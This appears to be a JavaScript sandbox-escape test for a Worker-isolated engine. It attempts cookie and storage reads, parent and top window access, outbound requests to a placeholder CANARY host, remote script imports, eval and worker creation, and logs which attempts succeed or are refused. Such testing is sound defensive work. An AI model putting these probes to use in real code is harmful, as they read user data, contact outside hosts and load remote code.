// An engine that tries to get out of its Worker. What it could do is in its dump; `CANARY` is another server that waits for it.
const CANARY = "__CANARY__";
const SERVER = "__SERVER__";
const reached = [];
const refused = {};

async function attempt(name, act) {
  let timer;
  const late = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error("no answer")), 1500);
  });
  try {
    const got = await Promise.race([act(), late]);
    if (got === undefined || got === null || got === "") refused[name] = "nothing";
    else reached.push(`${name}: ${String(got).slice(0, 60)}`);
  } catch (error) {
    refused[name] = String(error).slice(0, 80);
  }
  clearTimeout(timer);
}

const opens = (source, good = "onopen") =>
  new Promise((resolve, reject) => {
    source[good] = () => resolve("open");
    source.onerror = () => reject(new Error("error"));
  });
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

await Promise.all([
  attempt("document", () => document.cookie),
  attempt("cookieStore", async () => (await cookieStore.getAll()).length + 1),
  attempt("localStorage", () => localStorage.length + 1),
  attempt("sessionStorage", () => sessionStorage.length + 1),
  attempt("indexedDB", () => new Promise((resolve, reject) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = () => resolve("open");
    asked.onerror = () => reject(asked.error);
  })),
  attempt("caches", async () => (await caches.open("x")) && "open"),
  attempt("files", async () => (await navigator.storage.getDirectory()) && "open"),
  attempt("window", () => typeof window === "undefined" ? "" : "window"),
  attempt("parent", () => parent.location.href),
  attempt("top", () => top.location.href),
  attempt("opener", () => opener.location.href),
  attempt("origin", () => (self.origin === "null" ? "" : self.origin)),
  attempt("fetch the server", async () => (await fetch(`${SERVER}/rooms`)).status),
  attempt("fetch the server without CORS", async () => (await fetch(`${SERVER}/rooms`, { mode: "no-cors" })).type),
  attempt("make a room", async () => (await fetch(`${SERVER}/create`, { method: "POST", mode: "no-cors" })).type),
  attempt("fetch elsewhere", async () => (await fetch(CANARY)).status),
  attempt("fetch elsewhere without CORS", async () => (await fetch(CANARY, { mode: "no-cors" })).type),
  attempt("fetch, as prefetch", async () => (await fetch(CANARY, { keepalive: true, mode: "no-cors" })).type),
  attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(new Error("error"));
    request.open("GET", CANARY);
    request.send();
  })),
  attempt("sendBeacon", () => navigator.sendBeacon(CANARY) && "sent"),
  attempt("WebSocket", () => opens(new WebSocket(CANARY.replace("http", "ws")))),
  attempt("WebSocket of the server", () => opens(new WebSocket(`${SERVER.replace("http", "ws")}/rooms/x/socket`))),
  attempt("EventSource", () => opens(new EventSource(CANARY))),
  attempt("WebTransport", () => new WebTransport(CANARY.replace("http:", "https:")).ready),
  attempt("RTCPeerConnection", () => new RTCPeerConnection().createOffer()),
  attempt("importScripts", () => importScripts(`${CANARY}/x.js`) ?? "ran"),
  attempt("import elsewhere", () => import(`${CANARY}/x.js`)),
  attempt("import of the server", () => import(`${SERVER}/assets/x.js`)),
  attempt("import of data", () => import("data:text/javascript,export default 1")),
  attempt("eval", () => (0, eval)("1")),
  attempt("Function", () => new Function("return 1")()),
  attempt("Worker", () => new Worker(blob("")) && "made"),
  attempt("SharedWorker", () => new SharedWorker(blob("")) && "made"),
  attempt("ServiceWorker", () => navigator.serviceWorker.register("x.js")),
  attempt("BroadcastChannel", () => new BroadcastChannel("x") && "made"),
  attempt("Notification", () => opens(new Notification("x"), "onshow")),
  attempt("font", () => new FontFace("x", `url(${CANARY}/font.woff2)`).load()),
]);

export function create() {
  return { init() {}, step() {}, checksum: () => 1, load() {}, dump: () => ({ reached, refused }) };
}
